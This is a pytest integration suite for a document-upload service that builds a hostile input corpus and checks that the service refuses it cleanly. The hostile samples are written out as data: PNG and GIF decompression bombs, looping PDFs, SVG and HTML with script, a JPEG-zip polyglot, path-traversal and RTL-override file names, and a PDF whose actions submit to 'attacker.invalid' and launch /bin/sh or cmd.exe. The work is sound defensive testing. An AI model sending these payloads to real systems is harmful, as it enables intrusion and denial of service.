"""A hostile input corpus for uploads, every file built here (nothing binary is committed).

Each refused item must get a 4xx problem with a stable ``code``, leave no
document row, no blob and no spooled file behind, and leave the server
healthy: ``/readyz`` answers 200 and a normal photo still uploads. The items
the service accepts on purpose are in their own tests, each saying why.

Decisions: GIF (plain or animated), TIFF, SVG, HTML and zips are not photos
or scans and get ``415 upload.unsupported_type`` from their first bytes. A
page too small or too narrow to read (1x1, a 1x5000 strip) is refused with
``422 upload.too_few_pixels`` rather than stored with a quality problem: it
can hold nothing, and the quality measures cannot describe it (a white 1x1
pixel measures "overexposed", a strip broke the quality check's scaling). A
JPEG with a zip appended, a PDF with JavaScript or a Launch action, and any
file name are accepted: see their tests.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from intake.ports import BlobStore
from ocr import images
from tests.factories import document_image, encrypted_pdf_bytes, jpeg_bytes, pdf_bytes, png_bytes
from tests.integration.api.conftest import MAX_UPLOAD_BYTES, Api, auth
from tests.pdfs import pdf_file

_PROBLEM = "application/problem+json"
_BOUNDARY = "hostile-corpus"


# -- images -------------------------------------------------------------------------------


def _small_jpeg() -> bytes:
    return jpeg_bytes(document_image(width=320, height=220))


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG whose SOF0 header is patched to claim ``width`` x ``height``."""
    data = bytearray(_small_jpeg())
    offset = 2  # after SOI: walk the marker segments up to the frame header
    while data[offset + 1] != 0xC0:
        offset += 2 + struct.unpack(">H", data[offset + 2 : offset + 4])[0]
    # FFC0, length (2), precision (1), then height and width (2 each).
    data[offset + 5 : offset + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _zero_png(width: int, height: int, *, bit_depth: int = 1) -> bytes:
    """An all-black greyscale PNG, compressed a row at a time (never held whole)."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width * bit_depth + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _png_header_with_garbage_pixels(width: int, height: int) -> bytes:
    """A PNG header over pixel data that cannot be inflated at all."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", bytes(range(256)) * 4)
        + _png_chunk(b"IEND", b"")
    )


def _encoded(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def _plain_gif() -> bytes:
    return _encoded(Image.new("P", (64, 48), 1), "GIF")


def _huge_animated_gif(*, frames: int = 2000) -> bytes:
    """A 65535 x 65535 canvas with ``frames`` one-pixel frames, written by hand."""
    out = bytearray(b"GIF89a" + struct.pack("<HH", 0xFFFF, 0xFFFF) + b"\x80\x00\x00")
    out += b"\x00\x00\x00\xff\xff\xff"  # a two-colour global palette
    out += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"  # loop forever
    for _ in range(frames):
        out += b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: 10 ms delay
        out += b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00"
        out += b"\x02\x02\x44\x01\x00"  # LZW min code size 2, one data sub-block
    return bytes(out + b"\x3b")


def _tiff() -> bytes:
    return _encoded(Image.new("RGB", (64, 48), (200, 200, 200)), "TIFF")


def _svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" '
        b"onload=\"fetch('/v1/filings')\">"
        b"<script>alert(document.cookie)</script>"
        b'<rect width="100" height="100" fill="white"/></svg>\n'
    )


def _html() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>id card</title></head><body>"
        b'<img src="x" onerror="alert(1)"><script>document.write("hi")</script></body></html>'
    )


def _docx() -> bytes:
    """A minimal Word document: a zip with the parts Word expects (it will be named .jpg)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"><Override PartName="/word/document.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        archive.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>id card</w:t></w:r></w:p></w:body></w:document>",
        )
    return buffer.getvalue()


def _zip_of_script() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.sh", "#!/bin/sh\necho ran\n")
    return buffer.getvalue()


def _one_pixel_png() -> bytes:
    return _encoded(Image.new("RGB", (1, 1), (128, 128, 128)), "PNG")


def _strip_png(width: int, height: int) -> bytes:
    return _encoded(Image.new("L", (width, height), 128), "PNG")


# -- PDFs ---------------------------------------------------------------------------------


def _pdf_of_blank_pages(count: int) -> bytes:
    """A flat page tree of ``count`` empty Letter pages (no content: nothing to render)."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * count
    return pdf_file(objects)


def _pdf_lying_about_its_count(count: int) -> bytes:
    """``count`` pages under a page tree whose ``/Count`` says 1 (offsets kept intact)."""
    declared = b"/Count %d" % count
    return _pdf_of_blank_pages(count).replace(declared, b"/Count 1".ljust(len(declared)), 1)


def _xref_section(data: bytes) -> tuple[int, bytes]:
    """The offset and the table (``xref`` up to ``trailer``) of a one-section PDF."""
    start = data.rindex(b"startxref")
    offset = int(data[start + len(b"startxref") :].split()[0])
    return offset, data[offset : data.rindex(b"trailer")]


def _pdf_with_xref_pointing_at_itself() -> bytes:
    """The trailer's ``/Prev`` points back at its own cross-reference table."""
    data = pdf_bytes()
    offset, _ = _xref_section(data)
    trailer = data.rindex(b"trailer")
    return data[:trailer] + data[trailer:].replace(b"<<", b"<< /Prev %d" % offset, 1)


def _pdf_with_xref_chain_loop() -> bytes:
    """Two cross-reference sections whose ``/Prev`` entries point at each other."""
    data = pdf_bytes()
    first, table = _xref_section(data)
    size = int(data[data.rindex(b"/Size") :].split()[1].rstrip(b">"))
    out = bytearray(data[:first])
    second = (
        first + len(table) + len(b"trailer\n<< /Size %d /Root 1 0 R /Prev %010d >>\n" % (size, 0))
    )
    out += table + b"trailer\n<< /Size %d /Root 1 0 R /Prev %010d >>\n" % (size, second)
    assert len(out) == second
    out += table + b"trailer\n<< /Size %d /Root 1 0 R /Prev %010d >>\n" % (size, first)
    out += b"startxref\n%d\n%%%%EOF\n" % first
    return bytes(out)


def _pdf_with_looping_page_tree() -> bytes:
    """A page tree node that lists itself as its own kid."""
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def _pdf_with_needle_page() -> bytes:
    """One page 0.01 pt wide and a million points tall."""
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0.01 1000000] >>",
        ]
    )


def _pdf_owner_password_only() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.encrypt(user_password="", owner_password="owner")  # noqa: S106
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _pdf_with_actions() -> bytes:
    """A scanned page whose PDF runs JavaScript on open and launches a program on the page."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS="app.alert('opened'); this.submitForm('http://attacker.invalid/');"
    )
    launch = _action("/Launch", F="/bin/sh")
    launch[NameObject("/Win")] = DictionaryObject(
        {NameObject("/F"): TextStringObject("cmd.exe"), NameObject("/P"): TextStringObject("/c")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): launch})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _first_half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _pdf_garbage_after_header() -> bytes:
    return b"%PDF-1.7\n" + random.Random(7).randbytes(4000)


# -- the corpus ---------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Refusal:
    build: Callable[[], bytes]
    status: int
    code: str


_REFUSED: dict[str, _Refusal] = {
    "empty_file": _Refusal(lambda: b"", 422, "upload.empty"),
    "truncated_jpeg": _Refusal(lambda: jpeg_bytes()[:3000], 422, "upload.corrupt"),
    "truncated_png": _Refusal(lambda: png_bytes()[:3000], 422, "upload.corrupt"),
    "jpeg_header_claims_65535x65535": _Refusal(
        lambda: _jpeg_claiming(0xFFFF, 0xFFFF), 422, "upload.too_many_pixels"
    ),
    # 400 Mpx of zeros in under 50 kB: past Pillow's own bomb guard.
    "png_bomb_20000x20000": _Refusal(
        lambda: _zero_png(20_000, 20_000), 422, "upload.too_many_pixels"
    ),
    # 25 Mpx: under Pillow's guard, over the service's limit (4 Mpx in these tests).
    "png_bomb_5000x5000": _Refusal(
        lambda: _zero_png(5_000, 5_000, bit_depth=8), 422, "upload.too_many_pixels"
    ),
    # Pixels that cannot be inflated: only a check of the header can answer
    # too_many_pixels (decoding first would answer corrupt).
    "png_huge_header_undecodable_pixels": _Refusal(
        lambda: _png_header_with_garbage_pixels(30_000, 30_000), 422, "upload.too_many_pixels"
    ),
    # The service reads photos and scans: GIF (animated or not) is not one of them.
    "gif_plain": _Refusal(_plain_gif, 415, "upload.unsupported_type"),
    "gif_animated_65535x65535_2000_frames": _Refusal(
        _huge_animated_gif, 415, "upload.unsupported_type"
    ),
    "tiff": _Refusal(_tiff, 415, "upload.unsupported_type"),
    "svg_with_script": _Refusal(_svg_with_script, 415, "upload.unsupported_type"),
    "html": _Refusal(_html, 415, "upload.unsupported_type"),
    "docx_named_jpg": _Refusal(_docx, 415, "upload.unsupported_type"),
    # See the module docstring: refused, not answered with a quality problem.
    "image_1x1": _Refusal(_one_pixel_png, 422, "upload.too_few_pixels"),
    "image_1x5000_strip": _Refusal(lambda: _strip_png(1, 5000), 422, "upload.too_few_pixels"),
    "image_40x8000_strip": _Refusal(lambda: _strip_png(40, 8000), 422, "upload.too_few_pixels"),
    "pdf_10000_pages": _Refusal(lambda: _pdf_of_blank_pages(10_000), 422, "upload.too_many_pages"),
    "pdf_10000_pages_count_says_1": _Refusal(
        lambda: _pdf_lying_about_its_count(10_000), 422, "upload.too_many_pages"
    ),
    "jpeg_zip_polyglot": _Refusal(
        lambda: jpeg_bytes() + _zip_of_script(), 422, "upload.active_content"
    ),
    "pdf_javascript_and_launch_actions": _Refusal(_pdf_with_actions, 422, "upload.active_content"),
    "pdf_encrypted": _Refusal(encrypted_pdf_bytes, 422, "upload.encrypted_pdf"),
    "pdf_encrypted_owner_password_only": _Refusal(
        _pdf_owner_password_only, 422, "upload.encrypted_pdf"
    ),
    "pdf_xref_prev_chain_loops": _Refusal(_pdf_with_xref_chain_loop, 422, "upload.corrupt"),
    "pdf_page_tree_loops": _Refusal(_pdf_with_looping_page_tree, 422, "upload.corrupt"),
    "pdf_truncated": _Refusal(lambda: _first_half(pdf_bytes()), 422, "upload.corrupt"),
    "pdf_garbage_after_header": _Refusal(_pdf_garbage_after_header, 422, "upload.corrupt"),
    "pdf_header_only": _Refusal(lambda: b"%PDF-1.7\n%%EOF\n", 422, "upload.corrupt"),
    "pdf_needle_page_0.01x1000000pt": _Refusal(_pdf_with_needle_page, 422, "upload.too_few_pixels"),
}


def _blob_dir(api: Api) -> Path:
    return api.settings.data_dir / "blobs"


def _all_files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()}


async def _assert_nothing_stored_and_healthy(api: Api, filing_id: str) -> None:
    assert api.document_rows() == 0
    assert api.blob_files() == []
    assert list(api.settings.upload_tmp_dir.iterdir()) == []
    ready = await api.client.get("/readyz")
    assert ready.status_code == 200, ready.text
    normal = await api.upload(filing_id, jpeg_bytes())
    assert normal.status_code == 201, normal.text


def _assert_problem(response: httpx.Response, *, status: int, code: str) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == _PROBLEM
    body = response.json()
    assert body["code"] == code
    assert body["status"] == status
    assert body["type"] == f"urn:intake:problem:{code}"
    assert body["detail"]


def _multipart(*parts: tuple[bytes, bytes]) -> bytes:
    """A multipart body from ``(part headers, part body)`` pairs, byte for byte as given."""
    body = b"".join(
        b"--%s\r\n%s\r\n\r\n%s\r\n" % (_BOUNDARY.encode(), headers, data) for headers, data in parts
    )
    return body + b"--%s--\r\n" % _BOUNDARY.encode()


async def _post_multipart(api: Api, filing_id: str, body: bytes) -> httpx.Response:
    return await api.client.post(
        f"/v1/filings/{filing_id}/documents",
        content=body,
        headers={**auth(), "Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"},
    )


class TestRefusedItems:
    @pytest.mark.parametrize("item", list(_REFUSED.values()), ids=list(_REFUSED))
    async def test_refused_with_a_stable_code_storing_nothing(
        self, api: Api, item: _Refusal
    ) -> None:
        filing_id = await api.create_filing()

        response = await api.upload(filing_id, item.build())

        _assert_problem(response, status=item.status, code=item.code)
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_page_limit_refuses_10000_pages_without_rendering(
        self, api: Api, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        # pypdf builds a page object per leaf when it counts (about a second for
        # these 1 MB, ten times that for a 20 MB file); the page tree is walked
        # only until it passes the limit, and nothing is rendered.
        rendered: list[object] = []
        original = images._render_page

        def counting(*args: Any, **kwargs: Any) -> Any:
            rendered.append(args)
            return original(*args, **kwargs)

        monkeypatch.setattr(images, "_render_page", counting)
        filing_id = await api.create_filing()
        data = _pdf_lying_about_its_count(10_000)

        response = await api.upload(filing_id, data)

        _assert_problem(response, status=422, code="upload.too_many_pages")
        assert rendered == []


class TestAcceptedOddities:
    async def test_bytes_after_a_jpeg_that_are_no_archive_are_accepted(self, api: Api) -> None:
        """Data after the end-of-image marker is legal and common (a motion photo's video).

        Only a whole archive is refused; the page image is re-encoded from the
        decoded pixels, so it never carries the trailing bytes.
        """
        filing_id = await api.create_filing()
        trailer = b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 8
        data = jpeg_bytes() + trailer

        response = await api.upload(filing_id, data)

        assert response.status_code == 201, response.text
        body = response.json()
        analysed = await api.wait_for_document(filing_id, body["id"])
        blobs: BlobStore = api.app.state.services.blobs
        page = blobs.get(analysed["pages"][0]["image_sha256"])
        assert trailer not in page

    async def test_pdf_whose_xref_points_at_itself_is_read_once(self, api: Api) -> None:
        """A trailer whose ``/Prev`` names its own table is accepted: the loop is harmless.

        pypdf and PDFium both notice the section was read already and stop, so
        the one table, which is valid, describes the file. (Two sections that
        point at each other are refused by PDFium: ``pdf_xref_prev_chain_loops``.)
        """
        filing_id = await api.create_filing()

        response = await api.upload(filing_id, _pdf_with_xref_pointing_at_itself())

        assert response.status_code == 201, response.text
        assert response.json()["page_count"] == 1

    async def test_declared_png_part_holding_a_jpeg_is_sniffed_as_jpeg(self, api: Api) -> None:
        filing_id = await api.create_filing()
        body = _multipart(
            (
                b'Content-Disposition: form-data; name="file"; filename="scan.png"\r\n'
                b"Content-Type: image/png",
                jpeg_bytes(),
            )
        )

        response = await _post_multipart(api, filing_id, body)

        assert response.status_code == 201, response.text
        assert response.json()["content_type"] == "image/jpeg"

    async def test_declared_jpeg_part_holding_a_pdf_is_sniffed_as_pdf(self, api: Api) -> None:
        filing_id = await api.create_filing()
        body = _multipart(
            (
                b'Content-Disposition: form-data; name="file"; filename="photo.jpg"\r\n'
                b"Content-Type: image/jpeg",
                pdf_bytes(),
            )
        )

        response = await _post_multipart(api, filing_id, body)

        assert response.status_code == 201, response.text
        assert response.json()["content_type"] == "application/pdf"


_HOSTILE_NAMES: dict[str, bytes] = {
    "dot_dot_slash_etc_passwd": b"../../etc/passwd",
    "dot_dot_backslash": b"..\\x.jpg",
    "absolute_path": b"{tmp}/outside.jpg",  # {tmp}: the test's own directory
    "nul_byte": b"photo\x00.jpg",
    "rtl_override": "photo\u202egpj.exe".encode(),
    "chinese": "身份证正面.jpg".encode(),
    "long_name": b"a" * 4000 + b".jpg",
}


class TestHostileFileNames:
    @pytest.mark.parametrize("name", list(_HOSTILE_NAMES.values()), ids=list(_HOSTILE_NAMES))
    async def test_the_name_is_ignored_and_never_becomes_a_path(
        self, api: Api, tmp_path: Path, name: bytes
    ) -> None:
        """Any file name is accepted because none is ever used: blobs are named by SHA-256."""
        filing_id = await api.create_filing()
        before = _all_files(tmp_path)
        filename = name.replace(b"{tmp}", str(tmp_path).encode())
        body = _multipart(
            (
                b'Content-Disposition: form-data; name="file"; filename="%s"\r\n'
                b"Content-Type: image/jpeg" % filename,
                jpeg_bytes(),
            )
        )

        response = await _post_multipart(api, filing_id, body)

        assert response.status_code == 201, response.text
        document = await api.wait_for_document(filing_id, response.json()["id"])
        # The only new files are the original and its page, each at ab/cd/<SHA-256>.
        expected = {
            _blob_dir(api) / sha256[:2] / sha256[2:4] / sha256
            for sha256 in (document["sha256"], document["pages"][0]["image_sha256"])
        }
        assert _all_files(tmp_path) - before == expected


_HUNDRED_MB = 100 * 1024 * 1024
_CHUNK = 1024 * 1024


async def _send_streamed(api: Api, filing_id: str, body: AsyncIterator[bytes]) -> httpx.Response:
    """POST a multipart body from a generator without Content-Length.

    Nothing tells the server the size up front: its limits must hold while the body streams in.
    """
    request = api.client.build_request(
        "POST",
        f"/v1/filings/{filing_id}/documents",
        content=body,
        headers={**auth(), "Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"},
    )
    return await api.client.send(request)


class TestHundredMegabyteBody:
    async def test_refused_while_streaming_without_reading_it_all(self, api: Api) -> None:
        filing_id = await api.create_filing()
        sent = 0
        chunk = b"\x00" * _CHUNK

        async def body() -> AsyncIterator[bytes]:
            nonlocal sent
            yield (
                f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
                'filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff'
            ).encode("latin-1")
            for _ in range(_HUNDRED_MB // _CHUNK):
                sent += _CHUNK
                yield chunk
            yield f"\r\n--{_BOUNDARY}--\r\n".encode()

        response = await _send_streamed(api, filing_id, body())

        _assert_problem(response, status=413, code="upload.too_large")
        assert response.json()["limit"] == MAX_UPLOAD_BYTES
        # The server answered once the limit was passed, not after 100 MB.
        assert sent <= MAX_UPLOAD_BYTES + 2 * _CHUNK
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_refused_by_content_length_before_reading_a_byte(self, api: Api) -> None:
        filing_id = await api.create_filing()
        sent = 0

        async def body() -> AsyncIterator[bytes]:
            nonlocal sent
            for _ in range(_HUNDRED_MB // _CHUNK):
                sent += _CHUNK
                yield b"\x00" * _CHUNK

        request = api.client.build_request(
            "POST",
            f"/v1/filings/{filing_id}/documents",
            content=body(),
            headers={
                **auth(),
                "Content-Type": f"multipart/form-data; boundary={_BOUNDARY}",
                "Content-Length": str(_HUNDRED_MB),
            },
        )
        response = await api.client.send(request)

        _assert_problem(response, status=413, code="upload.too_large")
        assert sent == 0
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_bulk_after_the_closing_boundary_is_refused_as_it_streams(self, api: Api) -> None:
        # The parser ignores what follows the closing boundary; the whole body
        # is counted, so a valid form cannot drag 100 MB behind it.
        filing_id = await api.create_filing()
        sent = 0

        async def body() -> AsyncIterator[bytes]:
            nonlocal sent
            yield _multipart(
                (
                    b'Content-Disposition: form-data; name="file"; filename="a.jpg"',
                    jpeg_bytes(),
                )
            )
            for _ in range(_HUNDRED_MB // _CHUNK):
                sent += _CHUNK
                yield b"a" * _CHUNK

        response = await _send_streamed(api, filing_id, body())

        _assert_problem(response, status=413, code="upload.too_large")
        assert sent <= MAX_UPLOAD_BYTES + 2 * _CHUNK
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_a_huge_part_header_is_refused_as_it_streams(self, api: Api) -> None:
        filing_id = await api.create_filing()
        sent = 0

        async def body() -> AsyncIterator[bytes]:
            nonlocal sent
            yield f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; x="'.encode()
            for _ in range(_HUNDRED_MB // _CHUNK):
                sent += _CHUNK
                yield b"a" * _CHUNK

        response = await _send_streamed(api, filing_id, body())

        _assert_problem(response, status=422, code="request.invalid")
        assert sent <= 2 * _CHUNK
        await _assert_nothing_stored_and_healthy(api, filing_id)


class TestMalformedRequests:
    async def test_json_body_is_request_invalid(self, api: Api) -> None:
        filing_id = await api.create_filing()

        response = await api.client.post(
            f"/v1/filings/{filing_id}/documents",
            json={"file": "aGVsbG8=", "declared_kind": "id_card_front"},
            headers=auth(),
        )

        _assert_problem(response, status=422, code="request.invalid")
        assert response.json()["field"] == "file"
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_multipart_without_boundary_is_request_invalid(self, api: Api) -> None:
        filing_id = await api.create_filing()

        response = await api.client.post(
            f"/v1/filings/{filing_id}/documents",
            content=jpeg_bytes(),
            headers={**auth(), "Content-Type": "multipart/form-data"},
        )

        _assert_problem(response, status=422, code="request.invalid")
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_garbage_multipart_body_is_request_invalid(self, api: Api) -> None:
        filing_id = await api.create_filing()

        response = await _post_multipart(api, filing_id, random.Random(3).randbytes(20_000))

        _assert_problem(response, status=422, code="request.invalid")
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_photo_in_a_field_not_named_file_is_request_invalid(self, api: Api) -> None:
        filing_id = await api.create_filing()
        body = _multipart(
            (
                b'Content-Disposition: form-data; name="photo"; filename="photo.jpg"\r\n'
                b"Content-Type: image/jpeg",
                jpeg_bytes(),
            )
        )

        response = await _post_multipart(api, filing_id, body)

        _assert_problem(response, status=422, code="request.invalid")
        assert response.json()["field"] == "file"
        assert "'file'" in response.json()["detail"]
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_two_file_parts_are_request_invalid(self, api: Api) -> None:
        filing_id = await api.create_filing()
        part = (
            b'Content-Disposition: form-data; name="file"; filename="a.jpg"\r\n'
            b"Content-Type: image/jpeg",
            jpeg_bytes(),
        )

        response = await _post_multipart(api, filing_id, _multipart(part, part))

        _assert_problem(response, status=422, code="request.invalid")
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_body_without_closing_boundary_is_request_invalid(self, api: Api) -> None:
        filing_id = await api.create_filing()
        cut = _multipart(
            (b'Content-Disposition: form-data; name="file"; filename="a.jpg"', jpeg_bytes())
        )[: -len(f"\r\n--{_BOUNDARY}--\r\n")]

        response = await _post_multipart(api, filing_id, cut)

        _assert_problem(response, status=422, code="request.invalid")
        await _assert_nothing_stored_and_healthy(api, filing_id)

    async def test_content_length_of_non_ascii_digits_is_ignored(self, api: Api) -> None:
        # "²" passes str.isdigit() but not int(); the body's own count limits it.
        filing_id = await api.create_filing()
        body = _multipart(
            (b'Content-Disposition: form-data; name="file"; filename="a.jpg"', jpeg_bytes())
        )
        request = api.client.build_request(
            "POST",
            f"/v1/filings/{filing_id}/documents",
            content=body,
            headers={**auth(), "Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"},
        )
        raw = [(k, v) for k, v in request.headers.raw if k.lower() != b"content-length"]
        request.headers = httpx.Headers([*raw, (b"Content-Length", "²".encode("latin-1"))])

        response = await api.client.send(request)

        assert response.status_code == 201, response.text
